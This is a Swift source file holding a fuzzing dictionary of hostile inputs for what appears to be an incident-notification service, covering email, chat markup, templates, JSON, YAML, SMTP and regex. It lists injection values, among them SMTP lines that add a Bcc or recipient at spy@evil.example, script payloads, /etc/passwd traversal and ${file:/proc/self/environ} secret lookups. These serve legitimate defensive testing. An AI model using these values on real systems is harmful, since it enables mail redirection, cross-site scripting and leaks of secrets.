// What attackers write: line ends, mentions, markup, template tags, and bytes that are no text.

enum Tokens {
    static let bytes: [[UInt8]] = texts.map { Array($0.utf8) } + raw

    private static let texts = [
        "\r", "\n", "\r\n", "\r\n\r\n", "\0", "\t", "\u{FEFF}", "\u{85}", "\u{2028}", "\u{202E}", "\u{200B}", "\u{1B}[31m", "\u{7F}",
        "\r\nBcc: spy@evil.example\r\n", "\r\nRCPT TO:<spy@evil.example>\r\n", "\r\n.\r\n", "\n.\n", "MAIL FROM:<>",
        "<!here>", "<!channel>", "<@UDATA>", "<#CDATA|x>", "<https://evil.example|click>", "&lt;", "&amp;", "&#60;", "<at>all</at>",
        "<script>alert(1)</script>", "javascript:alert(1)", "data:text/html,x", "https://", "http://[::1]", "[x](javascript:a)", "**", "\\",
        "{{", "}}", "{{{", "}}}", "{{message}}", "{{{message}}}", "{{> open.html}}", "{{=<% %>=}}", "{{#incident}}", "{{/incident}}",
        "{{address}}", "{{text}}", "../", "../../etc/passwd", "/", "\"", "'", ",", ":", ";", "{", "}", "[", "]", "null", "true", "\"\":",
        "=?UTF-8?Q?x?=", "=\r\n", "%0d%0a", "%00", "&a", "*a", "e\u{301}\u{301}\u{301}\u{301}", "👩‍👩‍👧‍👦", "漢", "ﷺ", "ß", "İ", "\u{E000}",
        "\\u0000", "\\ud800", "\\udc00\\ud800", "\\u202e", "\\n", "\\r\\n", "T", "Z", "2026-11-24T03:58:00Z", "9999-12-31T23:59:60+99:99",
    ]

    private static let raw: [[UInt8]] = [
        [0xC0, 0xAF], [0xC1, 0x8A], [0xE0, 0x80, 0xAF], [0xED, 0xA0, 0x80], [0xED, 0xBF, 0xBF], [0xF4, 0x90, 0x80, 0x80], [0xF8, 0x88],
        [0xFF], [0xFE, 0xFF], [0xFF, 0xFE], [0x80], [0xC3], [0xF0, 0x9F], [0xEF, 0xBF, 0xBE],
    ]

    static let json = [
        "\"type\":\"update\"", "\"type\":\"reminder\"", "\"incident\":{\"id\":\"I\"}", "\"incident\":", "\"change\":{",
        "\"specversion\":\"1.0\"",
        "\"data\":", "\"labels\":{", "\"severity\":\"p1\"", "\"status\":\"open\"", "\"id\":\"\"", "\"time\":", "\"message\":\"",
    ]
    static let yaml = [
        "\n  ", "\n    - ", "&a ", "*a", "<<: *a", "!!binary ", "!x ", "? ", "| \n", ">-\n", "---\n", "...\n", "%YAML 9\n", "# ",
        "${env:TOKEN}",
        "${file:/dev/zero}", "${file:/proc/self/environ}", "${", "match: {", "to: [", "via", "fallback: ", "~^(a+)+$", "\"~(\"", "<=>", "!",
        "\t", "timeout: 1e99h", "99999999999999d", "template: ../../etc/passwd", "\n\"version\": 1\n",
    ]
    static let smtp = [
        "250-", "250 ", "354 ", "421 ", "535 5.7.8 ", "5.1.1 ", "queued as ", "AUTH PLAIN LOGIN", "STARTTLS", "SMTPUTF8", "999 ",
    ]
    static let pattern = [
        "(a+)+$", "(.*){9}", "{1000}", "{0,1000}", "(?:", "(?i)", "\\pL", "\\C", "[[:^alpha:]]", "[^\\x00-\\x{10FFFF}]", "\\b", "^", "$",
        "|",
        "*", "(?P<n>", "\\Q", "\\1", "(?=", "~^", "!", ">=", "*?",
    ]
}
